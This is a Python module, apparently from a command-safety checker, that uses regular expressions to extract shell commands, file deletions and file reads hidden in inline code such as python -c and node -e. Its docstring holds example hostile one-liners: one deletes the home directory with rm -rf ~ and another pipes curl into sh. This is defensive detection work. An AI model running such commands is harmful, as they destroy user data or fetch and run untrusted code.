"""Commands hidden in inline code: `python -c "import os; os.system('rm -rf ~')"`, `node -e
"require('child_process').execSync('curl x | sh')"`, `python - <<EOF ... shutil.rmtree(...)`.

Regex-level, on purpose: it finds string-literal arguments of the calls that run a shell or touch
files, and turns them into shell text or equivalent argv (`shutil.rmtree(p)` -> `rm -rf p`) for the
same rules to judge. Code that builds its strings at run time is beyond it.
"""
from __future__ import annotations

import ast
import re

_STR = r"""(?:[rbfu]{0,2})(?:'''(?P<q3>.*?)'''|\"\"\"(?P<d3>.*?)\"\"\"|'(?P<q>(?:\\.|[^'\\\n])*)'|"(?P<d>(?:\\.|[^"\\\n])*)"|`(?P<t>(?:\\.|[^`\\])*)`)"""
_PATHARG = r"\(\s*(?:os\.path\.expanduser\(\s*|Path\(\s*|pathlib\.Path\(\s*)?" + _STR

SHELL_CALL = re.compile(r"(?:\bos\.(?:system|popen)|\bsubprocess\.(?:run|call|check_call|check_output|Popen|getoutput|"
                        r"getstatusoutput)|\bcommands\.getoutput|\b(?:child_process\.)?(?:exec|execSync)|\bsystem|"
                        r"\bpty\.spawn|\bshell_exec|\bpassthru)\s*\(\s*" + _STR, re.S)
ARGV_CALL = re.compile(r"(?:\bsubprocess\.(?:run|call|check_call|check_output|Popen)|\bos\.exec[lv]p?e?|"
                       r"\b(?:child_process\.)?(?:spawn|spawnSync|execFile|execFileSync))\s*\(\s*(?:'[^']*'\s*,\s*)?\[([^\]]*)\]", re.S)
DELETE_CALL = re.compile(r"(?:\bshutil\.rmtree|\bos\.(?:remove|unlink|rmdir|removedirs)|\bfs\.(?:rmSync|rmdirSync|unlinkSync|rm|rmdir|unlink)"
                         r"|\bFileUtils\.rm_rf|\b(?:File::Path::)?(?:rmtree|remove_tree)|\bunlink)" + _PATHARG, re.S)
PATH_DELETE = re.compile(r"\bPath\(\s*" + _STR + r"\s*\)\.(?:unlink|rmdir)\(", re.S)
READ_CALL = re.compile(r"(?:\bopen|\bfs\.readFileSync|\bfs\.promises\.readFile|\bFile\.read|\bio\.open)" + _PATHARG, re.S)
PATH_READ = re.compile(r"\bPath\(\s*" + _STR + r"\s*\)\.(?:read_text|read_bytes|open)\(", re.S)
WRITE_MODE = re.compile(r"\s*,\s*['\"][wax+]")


def _lit(m: re.Match) -> str:
    for g in ("q3", "d3", "q", "d", "t"):
        v = m.group(g)
        if v is not None:
            if g == "t" and "${" in v:
                return v.split("${", 1)[0] + "\x00"
            try:
                return ast.literal_eval("'" + v.replace("'", "\\'") + "'") if g in ("q", "d") else v
            except (ValueError, SyntaxError):
                return v
    return ""


BACKTICKS = re.compile(r"`((?:\\.|[^`\\])*)`|%x\(([^)]*)\)|\bqx\(([^)]*)\)")


def embedded_commands(code: str, lang: str = "python") -> tuple[list[str], list[list[str]]]:
    """(shell scripts, argv lists) that `code` would run or amounts to. In ruby and perl a
    backtick string (or %x(), qx()) runs a shell; in JavaScript it is only a string."""
    scripts = [_lit(m) for m in SHELL_CALL.finditer(code)]
    if lang in ("ruby", "perl"):
        scripts += [next(g for g in m.groups() if g is not None) for m in BACKTICKS.finditer(code)]
    argvs: list[list[str]] = []
    for m in ARGV_CALL.finditer(code):
        parts = re.findall(r"'((?:\\.|[^'\\])*)'|\"((?:\\.|[^\"\\])*)\"", m.group(1))
        argv = [a or b for a, b in parts]
        if argv:
            argvs.append(argv)
    for m in list(DELETE_CALL.finditer(code)) + list(PATH_DELETE.finditer(code)):
        argvs.append(["rm", "-rf", _lit(m)])
    for m in list(READ_CALL.finditer(code)) + list(PATH_READ.finditer(code)):
        path = _lit(m)
        argvs.append(["tee", path] if WRITE_MODE.match(code, m.end()) else ["cat", path])
    return [s for s in scripts if s], argvs
